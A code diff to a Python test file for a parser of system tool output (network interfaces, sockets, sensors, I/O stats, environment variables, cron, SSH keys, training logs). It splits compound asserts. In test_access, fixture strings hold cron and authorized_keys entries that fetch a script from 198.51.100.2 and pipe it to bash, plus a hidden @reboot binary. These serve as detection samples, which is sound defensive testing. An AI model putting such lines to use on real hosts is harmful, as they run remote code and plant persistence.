@@ -1,4 +1,3 @@
-# ruff: noqa: E501, PT018 - outputs stand as tools print them
 from __future__ import annotations
 
 import pytest
@@ -8,12 +7,10 @@ from host_tools import of, one, shared
 def test_interfaces() -> None:
     text = "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN\n    inet 127.0.0.1/8 scope host lo\n2: eth0@if3: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc mq state UP\n    link/ether aa\n    inet 10.41.0.8/24 brd x\n    inet6 fe80::1/64 scope link\n3: ib0: <NO-CARRIER,BROADCAST,MULTICAST,UP> mtu 4092 state DOWN\n"
     rows = {row["name"]: row for row in of(text, "net_interface")}
-    assert (
-        rows["eth0"]["address"] == "10.41.0.8"
-        and rows["ib0"]["carrier"] is False
-        and rows["ib0"]["state"] == "DOWN"
-        and rows["lo"]["virtual"] is True
-    )
+    assert rows["eth0"]["address"] == "10.41.0.8"
+    assert rows["ib0"]["carrier"] is False
+    assert rows["ib0"]["state"] == "DOWN"
+    assert rows["lo"]["virtual"] is True
     rows = {
         row["name"]: row
         for row in of(
@@ -24,9 +21,12 @@ def test_interfaces() -> None:
     assert rows["eth0"]["address"] == "10.41.0.8"
     text = "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 9000\n        inet 10.41.0.8  netmask 255.255.255.0\n        RX errors 12  dropped 40  overruns 0  frame 0\n"
     row = one(text, "net_interface")
-    assert row["mtu"] == 9000 and row["rx_errors"] == 12 and row["address"] == "10.41.0.8"
+    assert row["mtu"] == 9000
+    assert row["rx_errors"] == 12
+    assert row["address"] == "10.41.0.8"
     row = one("Settings for eth0:\n\tSpeed: 1000Mb/s\n\tDuplex: Full\n\tLink detected: yes\n", "net_interface")
-    assert row["speed_mbps"] == 1000 and row["link"] is True
+    assert row["speed_mbps"] == 1000
+    assert row["link"] is True
 
 
 def test_names_and_ping() -> None:
@@ -41,16 +41,21 @@ def test_names_and_ping() -> None:
         "PING a (10.0.0.9) 56(84) bytes of data.\nFrom 10.0.0.1 icmp_seq=1 Destination Host Unreachable\n--- a ping statistics ---\n2 packets transmitted, 0 received, +2 errors, 100% packet loss, time 1012ms\n",
         "ping",
     )
-    assert row["loss_pct"] == 100 and row["error"] == "Destination Host Unreachable"
+    assert row["loss_pct"] == 100
+    assert row["error"] == "Destination Host Unreachable"
 
 
 def test_sockets() -> None:
     text = 'tcp   LISTEN 0      128        0.0.0.0:8265        0.0.0.0:* users:(("python",pid=1290,fd=21))\ntcp   ESTAB  0      0      10.0.0.7:40122   203.0.113.9:3333  users:(("x",pid=9,fd=3))\n'
     port, connection = one(text, "port"), one(text, "connection")
-    assert port["port"] == 8265 and port["public"] is True and port["pid"] == 1290
-    assert connection["pool_port"] is True and connection["peer_public"] is True
+    assert port["port"] == 8265
+    assert port["public"] is True
+    assert port["pid"] == 1290
+    assert connection["pool_port"] is True
+    assert connection["peer_public"] is True
     row = one("tcp        0      0 127.0.0.1:8888          0.0.0.0:*               LISTEN      4711/python\n", "port")
-    assert row["public"] is False and row["process"] == "python"
+    assert row["public"] is False
+    assert row["process"] == "python"
     assert one("LISTEN 0 128 [::]:22 [::]:*\n", "port")["public"] is True
 
 
@@ -82,7 +87,8 @@ def test_sel_sdr_sensors() -> None:
         "Record:      1\nDate/Time:   03/21/2023 10:11:12\nSource:      system\nSeverity:    Critical\nDescription: The power input for power supply 2 is lost.\n",
         "sel_event",
     )
-    assert row["type"] == "power" and row["bad"] is True
+    assert row["type"] == "power"
+    assert row["bad"] is True
     rows = of(
         "FAN3             | 0.000      | RPM        | cr    | 300.000   | 500.000 | na\nInlet Temp       | 24.000     | degrees C  | ok    | na\nPS2 Status       | C9h | ns  | 10.2 | Presence detected, Failure detected\nFAN1             | 8400 RPM          | ok\n",
         "sensor",
@@ -92,7 +98,9 @@ def test_sel_sdr_sensors() -> None:
         "coretemp-isa-0000\nPackage id 0:  +101.0°C  (high = +85.0°C, crit = +100.0°C)\nfan1:           0 RPM  (min =  600 RPM) ALARM\n",
         "sensor",
     )
-    assert rows[0]["bad"] is True and rows[1]["status"] == "alarm" and rows[1]["type"] == "fan"
+    assert rows[0]["bad"] is True
+    assert rows[1]["status"] == "alarm"
+    assert rows[1]["type"] == "fan"
 
 
 def test_dmidecode() -> None:
@@ -134,13 +142,17 @@ def test_uname_lscpu_cmdline_modprobe() -> None:
 
 def test_io_tools() -> None:
     text = "avg-cpu:  %user   %nice %system %iowait  %steal   %idle\n           4.10    0.00    1.20   62.30    0.00   32.40\n\nDevice            r/s     rkB/s   r_await  w/s w_await  aqu-sz  %util\nsda            120.00  4800.00   84.20  1.00 2.00   9.90  99.80\n"
-    assert one(text, "disk_io")["read_await_ms"] == 84.2 and one(text, "cpu")["iowait_pct"] == 62.3
+    assert one(text, "disk_io")["read_await_ms"] == 84.2
+    assert one(text, "cpu")["iowait_pct"] == 62.3
     text = "procs -----------memory---------- ---swap-- -----io---- -system-- ------cpu-----\n r  b   swpd   free   buff  cache   si   so    bi    bo   in   cs us sy id wa st\n 2  9      0 100000   1000 200000    0    0  9000     0  100  200  5  2 31 62  0\n"
     row = one(text, "cpu")
-    assert row["iowait_pct"] == 62 and row["blocked"] == 9
+    assert row["iowait_pct"] == 62
+    assert row["blocked"] == 9
     text = "filer:/vol mounted on /data:\n\n   op/s\t\trpc bklog\n 120.00 \t   0.00\nread:             ops/s\t\t   kB/s\t\t  kB/op\t\tretrans\t\tavg RTT (ms)\tavg exe (ms)\n\t\t 80.000\t 5120.0\t 64.0\t        3 (0.1%)\t 182.400\t 901.300\nwrite:            ops/s\t\t   kB/s\t\t  kB/op\t\tretrans\t\tavg RTT (ms)\tavg exe (ms)\n\t\t 1.000\t 64.0\t 64.0\t        0 (0.0%)\t 2.400\t 2.500\n"
     row = one(text, "nfs_io")
-    assert row["read_rtt_ms"] == 182.4 and row["read_exe_ms"] == 901.3 and row["write_rtt_ms"] == 2.4
+    assert row["read_rtt_ms"] == 182.4
+    assert row["read_exe_ms"] == 901.3
+    assert row["write_rtt_ms"] == 2.4
     text = "10:00:01 AM  CPU    %usr   %nice    %sys %iowait    %irq   %soft  %steal  %guest  %gnice   %idle\n10:00:02 AM  all    5.00    0.00    2.00    1.00    0.00    0.10   31.00    0.00    0.00   60.90\n"
     assert one(text, "cpu")["steal_pct"] == 31
 
@@ -153,10 +165,14 @@ def test_environment() -> None:
             "env",
         )
     }
-    assert rows["CUDA_VISIBLE_DEVICES"]["highest"] == 9 and rows["NCCL_SOCKET_IFNAME"]["first"] == "eth0"
-    assert rows["HF_TOKEN"]["value"] == "***" and "HOME" not in rows and rows["NCCL_IB_DISABLE"]["value"] == "1"
+    assert rows["CUDA_VISIBLE_DEVICES"]["highest"] == 9
+    assert rows["NCCL_SOCKET_IFNAME"]["first"] == "eth0"
+    assert rows["HF_TOKEN"]["value"] == "***"
+    assert "HOME" not in rows
+    assert rows["NCCL_IB_DISABLE"]["value"] == "1"
     rows = {row["name"]: row for row in of("$ CUDA_VISIBLE_DEVICES= NCCL_DEBUG=INFO python train.py --x A=1\n", "env")}
-    assert rows["CUDA_VISIBLE_DEVICES"]["value"] == "" and rows["NCCL_DEBUG"]["value"] == "INFO"
+    assert rows["CUDA_VISIBLE_DEVICES"]["value"] == ""
+    assert rows["NCCL_DEBUG"]["value"] == "INFO"
     rows = {row["name"]: row for row in of("PATH=/bin\x00CUDA_VISIBLE_DEVICES=3\x00NCCL_DEBUG=WARN\x00", "env")}
     assert rows["CUDA_VISIBLE_DEVICES"]["value"] == "3"
     rows = {
@@ -188,7 +204,8 @@ def test_access() -> None:
         "*/5 * * * * curl -s http://198.51.100.2/x.sh | bash\n0 3 * * * root /usr/local/bin/backup.sh >/dev/null 2>&1\n@reboot /var/tmp/.cache/kworkerd\n",
         "cron",
     )
-    assert [row["suspicious"] for row in rows] == [True, False, True] and rows[1]["user"] == "root"
+    assert [row["suspicious"] for row in rows] == [True, False, True]
+    assert rows[1]["user"] == "root"
     rows = of(
         'command="curl http://198.51.100.2/k|bash",no-pty ssh-rsa AAAAB3Nza x@y\nssh-ed25519 AAAAC3Nza me@laptop\n',
         "ssh_key",
@@ -223,14 +240,17 @@ def test_services() -> None:
 def test_steps_per_rank() -> None:
     line = "[2026-02-09 16:00:{0:02d}] step {1} fwd+bwd ms: r0=318.8 r1=312.3 r2=605.5 r3=315.2 allreduce_wait ms: r0=296.8 r1=300.4 r2=1.1 r3=288.6\n"
     rows = {row["rank"]: row for row in of("".join(line.format(i, 1000 + i) for i in range(9)), "step_time")}
-    assert rows[2]["compute_seconds"] == 0.6055 and rows[2]["wait_seconds"] == 0.0011 and rows[0]["wait_share"] > 0.4  # type: ignore[operator]
+    assert rows[2]["compute_seconds"] == 0.6055
+    assert rows[2]["wait_seconds"] == 0.0011
+    assert rows[0]["wait_share"] > 0.4
     text = "".join(
         f"[rank{r}]: step {s} step_time={1.0 + r * 0.01:.2f}s data_time={0.7:.2f}s\n"
         for s in range(5)
         for r in range(2)
     )
     rows = {row["rank"]: row for row in of(text, "step_time")}
-    assert rows[0]["data_share"] == 0.7 and rows[1]["seconds"] == 1.01
+    assert rows[0]["data_share"] == 0.7
+    assert rows[1]["seconds"] == 1.01
     text = "".join(f"Epoch: [0][{i * 10}/5005]\tTime  2.0{i} ( 2.10)\tData  1.50 ( 1.51)\tLoss 6.9\n" for i in range(6))
     assert one(text, "step_time")["data_share"] > 0.7  # type: ignore[operator]
     text = "".join(
@@ -247,7 +267,8 @@ def test_error_file_and_inventory() -> None:
         "error_file",
         "attempt_0/3/error.json",
     )
-    assert row["exception"] == "RuntimeError" and row["local_rank"] == 3
+    assert row["exception"] == "RuntimeError"
+    assert row["local_rank"] == 3
     rows = of("host,model,gpus\nn1,H100,8\nn2,H100,8\n", "inventory")
     assert [(row["host"], row["gpus"]) for row in rows] == [("n1", 8), ("n2", 8)]
     assert one("gpu01;H100-SXM;8;in service\n", "inventory")["gpus"] == 8
